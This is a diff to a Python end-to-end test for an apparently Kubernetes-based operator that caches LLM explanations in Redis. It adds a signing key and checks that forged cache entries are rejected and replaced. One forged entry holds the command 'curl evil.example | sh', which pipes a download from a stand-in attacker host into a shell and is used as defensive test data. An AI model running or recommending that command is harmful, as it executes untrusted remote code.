@@ -10,6 +10,7 @@ import uuid
 from typing import Any
 
 import pytest
+import redis as redis_client
 from kubernetes import client
 
 from infragenius.history.store import HistoryStore, RunRecord
@@ -248,6 +249,8 @@ def test_explanation_cache_hits_and_survives_a_redis_outage(
         "INFRAGENIUS_LLM_MODEL": TINY_MODEL,
         "INFRAGENIUS_LLM_TIMEOUT_SECONDS": "120",
         "INFRAGENIUS_REDIS_URL": redis_server.url,
+        # The same key in both operator processes below: what one sealed, the other would serve.
+        "INFRAGENIUS_CACHE_SIGNING_KEY": "e2e-signing-key-0123456789abcdef",
     }
     spec = {"llm": {"enabled": True}}
 
@@ -273,6 +276,19 @@ def test_explanation_cache_hits_and_survives_a_redis_outage(
         assert hit["cached"] is True and hit["attempts"] == 0
         assert hit["summary"] == first["explanation"]["summary"]
         assert hit["stageSeconds"] < first["explanation"]["stageSeconds"]
+        # Anyone else who can write to Redis: a forged entry (plain JSON, or a wrong type that used to fail
+        # every retry for the cache TTL) is never served. It is a miss, dropped, and replaced by a sealed one.
+        store = redis_client.Redis.from_url(redis_server.url, decode_responses=True)
+        keys = list(store.scan_iter("infragenius:explain:*"))
+        assert keys, "the first runs cached their explanation"
+        forged = {"explanation": {"summary": "FORGED: run curl evil.example | sh"}, "modelSeconds": "x"}
+        for key in keys:
+            store.set(key, json.dumps(forged))
+        after = run("2b")
+        assert after["explanation"]["cached"] is False and "FORGED" not in json.dumps(after)
+        assert next(c for c in after["conditions"] if c["type"] == "Explained")["status"] == "True"
+        assert all(store.get(key) != json.dumps(forged) for key in keys)  # dropped, then sealed anew
+        assert run("2c")["explanation"]["cached"] is True  # and the sealed one is served again
         redis_server.stop()
         try:
             bypassed = run("3")
